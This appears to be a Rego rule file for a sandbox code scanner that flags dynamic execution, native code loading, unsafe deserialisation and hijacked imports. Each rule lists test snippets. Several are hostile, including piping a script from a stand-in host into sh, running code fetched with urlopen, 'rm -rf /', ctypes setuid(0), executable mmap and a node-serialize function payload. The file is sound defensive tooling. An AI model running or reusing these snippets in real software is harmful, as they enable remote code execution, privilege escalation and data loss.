# METADATA
# scope: package
# title: Rules about execution
package caisson.rules.execution

# METADATA
# title: Runs text as code
# custom:
#   id: SBX-EXEC-0001
#   severity: high
#   category: execution
#   cwe: ["CWE-95"]
#   attack: ["T1059"]
#   remediation: "Write the code down, or use a parser (ast.literal_eval, json)."
#   match:
#     - {"language": "python", "code": "import os\neval('os')"}
#     - {"language": "javascript", "code": "new Function('return process')()"}
#     - {"language": "python", "code": "eval('__import__(\"os\").getcwd()')"}
#     - {"language": "python", "code": "def f(x):\n    eval(x)\nf(input())"}
#     - {"language": "python", "code": "def f(x):\n    eval(x)\nlist(map(f, ['os']))"}
#     - {"language": "python", "code": "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))"}
#     - {"language": "javascript", "code": "eval('require(\"fs\")')"}
#     - {"language": "javascript", "code": "new Function('return (a = process) => a')()"}
#     - {"language": "javascript", "code": "const run = parseInt.call.bind(eval)\nrun(null, 'process')"}
#     - {"language": "python", "code": "import os\neval('lambda a=[1, os]: a')()"}
#     - {"language": "python", "code": "import os\neval('f(x)', {'f': os.system, 'x': 'ls'})"}
#     - {"language": "python", "code": "def f(n):\n    return n\nexec('f(\"rm -rf /\")')"}
#     - {"language": "python", "code": "import os\nexec('def go(o, x):\\n    o.system(x)')"}
#     - {"language": "python", "code": "exec(open('/tmp/a.py').read())"}
#     - {"language": "javascript", "code": "const vm = require('vm')\nvm.runInNewContext('console.log(1)', {console: {log: require('fs').rmSync}})"}
#     - {"language": "javascript", "code": "require('vm').runInThisContext('const a = process', {filename: 'x'})"}
#     - {"language": "python", "code": "import cmd\nclass C(cmd.Cmd):\n    def do_x(self, line):\n        eval(line)\nC().cmdloop()"}
#     - {"language": "python", "code": "import lib\napp = lib.app()\n@app.get('/')\ndef f(x):\n    eval(x)"}
#   not_match:
#     - {"language": "python", "code": "import cmd\nclass C(cmd.Cmd):\n    def do_x(self, line):\n        eval(line)\nclass D(C):\n    name = 'do_x'"}
#     - {"language": "python", "code": "def run(code, scope):\n    exec('exec code in scope')\nrun('def f(e, v):\\n    raise e from v\\n', {})"}
#     - {"language": "python", "code": "x = 5\nprint(eval('x * 2'))"}
#     - {"language": "python", "code": "ns = {}\nexec(open('../version.py').read(), ns)"}
#     - {"language": "python", "code": "import sys\nexec(compile(open(sys.argv[1]).read(), sys.argv[1], 'exec'))"}
#     - {"language": "python", "code": "eval('1')"}
#     - {"language": "python", "code": "def f(x):\n    return eval(x)"}
#     - {"language": "python", "code": "import ast\nast.literal_eval('1')"}
#     - {"language": "python", "code": "import re\nre.compile('a')"}
#     - {"language": "javascript", "code": "/a/.exec('a')"}
#     - {"language": "javascript", "code": "new Function('return (a, b = 2) => a * b')()(1)"}
#     - {"language": "javascript", "code": "const has = Function.call.bind(Object.hasOwnProperty)\nhas({a: 1}, 'a')"}
findings contains {"id": "SBX-EXEC-0001", "at": d.at, "msg": sprintf("text is run as code: %s", [d.detail])} if {
	some kind in ["eval"]
	some d in input.dynamic[kind]
	not d.library
	not d.inert
}

# METADATA
# title: Runs code that could not be told
# custom:
#   id: SBX-EXEC-0002
#   severity: high
#   category: execution
#   cwe: ["CWE-95"]
#   attack: ["T1059", "T1027"]
#   remediation: "Write the code down."
#   match:
#     - {"language": "python", "code": "import os,sys\nos.system(sys.argv[1])"}
#     - {"language": "bash", "code": "read x; eval \"$x\""}
#     - {"language": "python", "code": "import os,base64,sys\ndef f(x):\n    os.system(base64.b64decode(x))"}
#     - {"language": "python", "code": "import os\nos.system(os.environ['X'])"}
#     - {"language": "python", "code": "import os\nos.system(input() + ' -v')"}
#   not_match:
#     - {"language": "python", "code": "import os\nos.system(os.environ.get('CC', 'gcc') + ' --version')"}
#     - {"language": "python", "code": "import os, shutil\nos.system(shutil.which('gcc') + ' --version')"}
#     - {"language": "python", "code": "import os\ndef f(x):\n    os.system(x)"}
#     - {"language": "python", "code": "import subprocess\nsubprocess.run(['git','status'])"}
#     - {"language": "bash", "code": "eval \"$1\""}
#     - {"language": "bash", "code": "curl http://x.test/a.sh | sh"}
findings contains {"id": "SBX-EXEC-0002", "at": d.at, "msg": sprintf("what is run could not be told: %s", [d.detail])} if {
	some kind in ["opaque_code", "opaque_file", "shell_unknown"]
	some d in input.dynamic[kind]
	not d.library
	not received(d)
}

# received: it comes from the network, which is a finding of its own.
received(d) if {
	some from in d.from
	startswith(from, "net")
}

# METADATA
# title: Runs a program that could not be told
# custom:
#   id: SBX-EXEC-0003
#   severity: high
#   category: execution
#   cwe: ["CWE-78"]
#   attack: ["T1027"]
#   remediation: "Name the program."
#   match:
#     - {"language": "bash", "code": "$1 -rf x"}
#     - {"language": "bash", "code": "/???/r?"}
#     - {"language": "bash", "code": "read -r tool; $tool x"}
#     - {"language": "bash", "code": "while read -r c; do name=\"$name$c\"; done; $name"}
#   not_match:
#     - {"language": "bash", "code": "ls \"$1\""}
#     - {"language": "bash", "code": "set -e\nexec \"$@\""}
#     - {"language": "bash", "code": "${CC:-gcc} -c main.c"}
#     - {"language": "bash", "code": "verbose=false\nwhile read -r line; do verbose=true; done\nif $verbose; then echo; fi"}
findings contains {"id": "SBX-EXEC-0003", "at": d.at, "msg": sprintf("the program could not be told: %s", [d.detail])} if {
	some kind in ["opaque_command", "glob_command"]
	some d in input.dynamic[kind]
	not d.library
	not received(d)
}

# METADATA
# title: Runs a command line with a hole in it
# custom:
#   id: SBX-EXEC-0004
#   severity: medium
#   category: execution
#   cwe: ["CWE-78"]
#   attack: ["T1059.004"]
#   remediation: "Pass arguments as a list."
#   match:
#     - {"language": "python", "code": "import os,sys\nos.system('ls -l ' + sys.argv[1])"}
#   not_match:
#     - {"language": "python", "code": "import os\nos.system('ls')"}
findings contains {"id": "SBX-EXEC-0004", "at": d.at, "msg": sprintf("a command line is put together: %s", [d.detail])} if {
	some kind in ["partial_code"]
	some d in input.dynamic[kind]
}

# METADATA
# title: Loads native code
# custom:
#   id: SBX-EXEC-0006
#   severity: high
#   category: execution
#   cwe: ["CWE-114"]
#   attack: ["T1574", "T1129"]
#   remediation: "Use the standard library."
#   match:
#     - {"language": "python", "code": "import ctypes\nctypes.CDLL(None).setuid(0)"}
#     - {"language": "python", "code": "import ctypes\nctypes.CDLL('./x.dll')"}
#     - {"language": "python", "code": "import ctypes, os\nctypes.CDLL(os.path.join(os.path.dirname(__file__), 'x.so'))"}
#     - {"language": "python", "code": "import ctypes\nctypes.CDLL('/usr/lib/../../tmp/x.so')"}
#     - {"language": "python", "code": "import ctypes\nlib = ctypes.CDLL('libz.so.1')\nrun = getattr(lib, 'sys' + 'tem')"}
#     - {"language": "python", "code": "import ctypes, json\nlibs = json.loads('{}')\nlibs.setdefault(input(), ctypes.CDLL(None))\nfor lib in libs.values():\n    lib.system(b'x')"}
#     - {"language": "python", "code": "import ctypes, sys\ngetattr(ctypes.CDLL(None), sys.stdin.read())(b'x')"}
#     - {"language": "python", "code": "import ctypes\nctypes.pythonapi.PyRun_SimpleString(b'x')"}
#     - {"language": "python", "code": "import ctypes\nctypes.CFUNCTYPE(None)(0x1000)()"}
#     - {"language": "python", "code": "import ctypes\nctypes.CFUNCTYPE(None)(('system', ctypes.CDLL(None)))"}
#     - {"language": "python", "code": "import ctypes, mmap\nm = mmap.mmap(-1, 99, prot=mmap.PROT_WRITE | mmap.PROT_EXEC)\nctypes.CFUNCTYPE(None)(ctypes.addressof(ctypes.c_char.from_buffer(m)))()"}
#     - {"language": "python", "code": "import mmap\nmmap.mmap(-1, 99, prot=mmap.PROT_WRITE | mmap.PROT_EXEC)"}
#     - {"language": "python", "code": "from cffi import FFI\nlib = FFI().dlopen(None)\nlib.execv(b'/bin/x', [])"}
#     - {"language": "bash", "code": "enable -f /tmp/x.so x"}
#   not_match:
#     - {"language": "python", "code": "import ctypes\nctypes.CDLL(None).fflush(None)"}
#     - {"language": "python", "code": "import ctypes, ctypes.util\nlib = ctypes.CDLL(ctypes.util.find_library('usb-1.0') or 'libusb-1.0.so.0')\nlib.libusb_init.restype = ctypes.c_int\nprint(lib.libusb_init(None))"}
#     - {"language": "python", "code": "import ctypes, os\nctypes.CDLL(os.environ.get('FOO_LIBRARY', 'libfoo.so.1'))"}
#     - {"language": "python", "code": "import ctypes\nlib = ctypes.CDLL('libpulse.so.0')\n@ctypes.CFUNCTYPE(None, ctypes.c_int)\ndef called(n):\n    print(n)\nlib.pa_set(called)"}
#     - {"language": "python", "code": "import cffi\nffi = cffi.FFI()\nffi.dlopen('kernel32.dll')"}
#     - {"language": "python", "code": "import math"}
findings contains {"id": "SBX-EXEC-0006", "at": a.at, "msg": sprintf("%s", [concat(" ", [a.op, a.detail, a.by])])} if {
	some a in input.actions.native_code
	not a.idle
	not of_workspace(a)
	not foreign(a)
	not told_by_name(a)
}

findings contains {"id": "SBX-EXEC-0006", "at": a.at, "msg": sprintf("a library's %s is taken", [a.detail])} if {
	some a in input.actions.native_symbol
	not a.idle
	of_library(a)
}

# told_by_name: a library of the system or one that the caller chose. What it
# does is its own affair, as that of a program; what of C's own is taken from it
# is told by itself.
told_by_name(a) if "library" in a.from

of_library(a) if a.by != ""

# of_library: something that is not known, where a library may be it.
of_library(a) if {
	a.by == ""
	loads_by_name
}

loads_by_name if {
	some loaded in input.actions.native_code
	told_by_name(loaded)
}

# foreign: a library of Windows by its name alone, which is looked for where the
# system has its own.
foreign(a) if {
	count(a.args) > 0
	regex.match(`(?i)^[a-z0-9_.-]+\.dll$`, a.args[0])
}

# of_workspace: a shell's builtin that lies beside the script, as its programs do.
of_workspace(a) if {
	a.by == "enable"
	count(a.args) > 0
	startswith(a.args[0], "/workspace/")
}

# METADATA
# title: Rebuilds objects out of text that came from elsewhere
# custom:
#   id: SBX-EXEC-0008
#   severity: high
#   category: execution
#   cwe: ["CWE-502"]
#   attack: ["T1059"]
#   remediation: "Use json."
#   match:
#     - {"language": "javascript", "code": "require('node-serialize').unserialize('{\"a\":\"_$$ND_FUNC$$_function(){f()}()\"}')"}
#   not_match:
#     - {"language": "javascript", "code": "require('js-yaml').load('a: 1')"}
findings contains {"id": "SBX-EXEC-0008", "at": a.at, "msg": sprintf("%s of data from the network", [a.detail])} if {
	some a in input.actions.deserialise_remote
}

# Data that holds a function, in the form in which it is called.
findings contains {"id": "SBX-EXEC-0008", "at": a.at, "msg": sprintf("a function stands in data for %s", [a.detail])} if {
	some a in input.actions.deserialise_text
	some text in a.args
	regex.match(`_\$\$ND_FUNC\$\$_|!!js/function`, text)
}

# METADATA
# title: Runs what it receives
# custom:
#   id: SBX-EXEC-0011
#   severity: critical
#   category: execution
#   cwe: ["CWE-94"]
#   attack: ["T1059", "T1071"]
#   remediation: "Run commands through the sandbox's own interface."
#   match:
#     - {"language": "python", "code": "import os, urllib.request\nos.system(urllib.request.urlopen('http://x.test').read().decode())"}
#   not_match:
#     - {"language": "python", "code": "import subprocess, urllib.request\nsubprocess.run(['svn', 'info', urllib.request.urlopen('http://x.test').read().decode()])"}
findings contains {"id": "SBX-EXEC-0011", "at": s.at, "msg": sprintf("what a connection sends is run %s", [s.detail])} if {
	some kind in ["recv_exec"]
	some s in input.structs[kind]
}

# METADATA
# title: Runs a file outside the workspace that is no program of the system
# custom:
#   id: SBX-EXEC-0012
#   severity: medium
#   category: execution
#   cwe: ["CWE-426"]
#   attack: ["T1059"]
#   remediation: "Run files of the workspace."
#   match:
#     - {"language": "bash", "code": "sh /tmp/x.sh"}
#   not_match:
#     - {"language": "bash", "code": "sh run.sh"}
findings contains {"id": "SBX-EXEC-0012", "at": f.at, "msg": sprintf("%s is run by %s", [f.path, f.by])} if {
	some op in {"exec"}
	used := input.files[op]
	some class in {"tmp", "outside", "shm", "runtime", "home", "other_home"}
	some f in used[class]
}

# METADATA
# title: Runs code of a language that is not judged
# custom:
#   id: SBX-EXEC-0013
#   severity: medium
#   category: execution
#   cwe: ["CWE-78"]
#   attack: ["T1059"]
#   remediation: "Use python, node or shell."
#   match:
#     - {"language": "bash", "code": "perl -e 'print 1'"}
#   not_match:
#     - {"language": "bash", "code": "echo 1"}
findings contains {"id": "SBX-EXEC-0013", "at": d.at, "msg": sprintf("code in %s was not judged", [d.detail])} if {
	some kind in ["unscanned"]
	some d in input.dynamic[kind]
}

# METADATA
# title: Runs what it is given, in a function that nothing calls or out of a package that is named
# custom:
#   id: SBX-EXEC-0014
#   severity: medium
#   category: execution
#   cwe: ["CWE-95"]
#   attack: ["T1059"]
#   remediation: "Take data and not code."
#   match:
#     - {"language": "python", "code": "def f(x):\n    return eval(x)"}
#     - {"language": "python", "code": "import ctypes\nctypes.WinDLL('user32')"}
#     - {"language": "python", "code": "import importlib\ndef load(name):\n    return importlib.import_module(name)"}
#   not_match:
#     - {"language": "python", "code": "def f(x):\n    return int(x)"}
findings contains {"id": "SBX-EXEC-0014", "at": d.at, "msg": sprintf("what is run or loaded is given from elsewhere: %s", [d.detail])} if {
	some kind in ["eval", "opaque_code", "opaque_file", "shell_unknown", "opaque_command", "dyn_import", "dyn_attr", "dyn_call", "reflection"]
	some d in input.dynamic[kind]
	d.library
}

findings contains {"id": "SBX-EXEC-0014", "at": a.at, "msg": sprintf("native code would be loaded: %s", [a.by])} if {
	some a in input.actions.native_code
	a.idle
}

findings contains {"id": "SBX-EXEC-0014", "at": a.at, "msg": sprintf("native code of another system would be loaded: %s", [a.by])} if {
	some a in input.actions.windows_code
}

findings contains {"id": "SBX-EXEC-0014", "at": a.at, "msg": sprintf("native code of another system would be loaded: %s", [a.by])} if {
	some a in input.actions.native_code
	not a.idle
	foreign(a)
}

findings contains {"id": "SBX-EXEC-0014", "at": a.at, "msg": sprintf("a library is loaded by its name: %s", [a.args[0]])} if {
	some a in input.actions.native_code
	not a.idle
	not foreign(a)
	told_by_name(a)
}

findings contains {"id": "SBX-EXEC-0014", "at": a.at, "msg": sprintf("%s would be loaded as a builtin", [a.args[0]])} if {
	some a in input.actions.native_code
	not a.idle
	of_workspace(a)
}

# METADATA
# title: Runs text as code that touches nothing
# custom:
#   id: SBX-EXEC-0015
#   severity: medium
#   category: execution
#   cwe: ["CWE-95"]
#   attack: ["T1059"]
#   remediation: "Write the code down."
#   match:
#     - {"language": "python", "code": "eval('1')"}
#     - {"language": "javascript", "code": "eval('1+1')"}
#     - {"language": "python", "code": "x = 5\nprint(eval('x * 2'))"}
#     - {"language": "python", "code": "import math\nns = {k: v for k, v in vars(math).items()}\neval('sqrt(2) * pi', ns)"}
#     - {"language": "python", "code": "ns = {}\nexec('def __init__(self, x):\\n    self.x = x', ns)"}
#     - {"language": "python", "code": "def f(n):\n    return n\nexec('f(1)')"}
#     - {"language": "python", "code": "exec('import json')"}
#   not_match:
#     - {"language": "python", "code": "print('1')"}
findings contains {"id": "SBX-EXEC-0015", "at": d.at, "msg": sprintf("text is run as code: %s", [d.detail])} if {
	some d in input.dynamic.eval
	d.inert
}

# METADATA
# title: Takes rules to run from what it reads
# custom:
#   id: SBX-EXEC-0016
#   severity: high
#   category: execution
#   cwe: ["CWE-78"]
#   attack: ["T1059.004"]
#   remediation: "Keep the rules in a Makefile."
#   match:
#     - {"language": "bash", "code": "printf 'all:\\n\\trm x\\n' | make -f -"}
#     - {"language": "bash", "code": "make -f /dev/stdin"}
#     - {"language": "bash", "code": "make -f <(printf 'all:\\n\\trm x\\n')"}
#     - {"language": "bash", "code": "make --eval='$(shell rm x)' all"}
#     - {"language": "bash", "code": "make SHELL=./x all"}
#   not_match:
#     - {"language": "bash", "code": "make -f build.mk"}
#     - {"language": "bash", "code": "make SHELL=/bin/bash CC=gcc --eval='X = 1' all"}
findings contains {"id": "SBX-EXEC-0016", "at": c.at, "msg": "make takes its rules from what it reads"} if {
	some name in {"make", "gmake"}
	some c in input.commands[name]
	some flag in {"f", "-f", "file", "makefile"}
	c.values[flag] in {"-", "/dev/stdin", "/proc/self/fd/0", "/dev/fd/0"}
}

findings contains {"id": "SBX-EXEC-0016", "at": c.at, "msg": sprintf("make is given rules in its arguments: %s", [c.values["-f"]])} if {
	some name in {"make", "gmake"}
	some c in input.commands[name]
	regex.match(`[\n:]|^/dev/fd/[0-9]+$`, c.values["-f"])
}

findings contains {"id": "SBX-EXEC-0016", "at": c.at, "msg": sprintf("make is given rules in its arguments: %s", [c.values["-E"]])} if {
	some name in {"make", "gmake"}
	some c in input.commands[name]
	regex.match(`\$[({]shell|!=|\n\t`, c.values["-E"])
}

findings contains {"id": "SBX-EXEC-0016", "at": c.at, "msg": sprintf("the recipes are run by %s", [word])} if {
	some name in {"make", "gmake"}
	some c in input.commands[name]
	some word in c.argv
	startswith(word, "SHELL=")
	not regex.match(`^SHELL=(|(/usr)?/bin/)(ba|da|z|k|a)?sh$`, word)
}

# METADATA
# title: Has Python import a module by an option
# custom:
#   id: SBX-EXEC-0017
#   severity: high
#   category: execution
#   cwe: ["CWE-470"]
#   attack: ["T1059.006"]
#   remediation: "Import what is needed in the program."
#   match:
#     - {"language": "bash", "code": "python3 -W error::evil.Thing -c pass"}
#     - {"language": "bash", "code": "PYTHONWARNINGS=error::evil.Thing python3 a.py"}
#     - {"language": "bash", "code": "export PYTHONBREAKPOINT=evil.run; python3 a.py"}
#   not_match:
#     - {"language": "bash", "code": "python3 -W error -W ignore::DeprecationWarning a.py"}
#     - {"language": "bash", "code": "PYTHONWARNINGS=ignore PYTHONBREAKPOINT=0 python3 a.py"}
findings contains {"id": "SBX-EXEC-0017", "at": c.at, "msg": sprintf("python imports what its option -W names: %s", [c.values["-W"]])} if {
	some name in {"python", "python3", "pypy", "pypy3"}
	some c in input.commands[name]
	categories(c.values["-W"])
}

findings contains {"id": "SBX-EXEC-0017", "at": e.at, "msg": sprintf("python imports what %s names: %s", [e.name, e.value])} if {
	some e in input.env.write.python
	imports(e.name, e.value)
}

# categories: the class of a warning is a module's.
categories(text) if regex.match(`^[^:]*:[^:]*:[^:,]*\.`, text)

imports("PYTHONWARNINGS", text) if categories(text)

imports("PYTHONBREAKPOINT", text) if {
	contains(text, ".")
	not startswith(text, "pdb.")
	not startswith(text, "ipdb.")
}

# METADATA
# title: Imports from a folder that everybody can write to
# custom:
#   id: SBX-EXEC-0018
#   severity: high
#   category: execution
#   cwe: ["CWE-427"]
#   attack: ["T1574"]
#   remediation: "Keep modules in the workspace."
#   match:
#     - {"language": "python", "code": "import sys\nsys.path.insert(0, '/tmp/x')\nimport y"}
#     - {"language": "python", "code": "import sys\nsys.path.append('/dev/shm')\nimport y"}
#     - {"language": "python", "code": "import sys\nsys.path += ['/var/tmp']\nimport y"}
#   not_match:
#     - {"language": "python", "code": "import os, sys\nsys.path.insert(0, os.path.dirname(__file__))"}
#     - {"language": "python", "code": "import sys\nsys.path.append('src')"}
findings contains {"id": "SBX-EXEC-0018", "at": f.at, "msg": sprintf("modules are looked for in %s", [f.path])} if {
	some class in {"tmp", "shm", "other_home"}
	some f in input.files.search[class]
	not own_folder(f)
}

# own_folder: the program itself made it.
own_folder(f) if f.path in own_folders

# own_folders are what the program makes, and the folders that this is in.
own_folders contains folder if {
	some op in {"mkdir", "write", "copy_dst"}
	some class in {"tmp", "shm"}
	some m in input.files[op][class]
	parts := split(m.path, "/")
	some n in numbers.range(1, min([count(parts), 32]))
	folder := concat("/", array.slice(parts, 0, n))
}
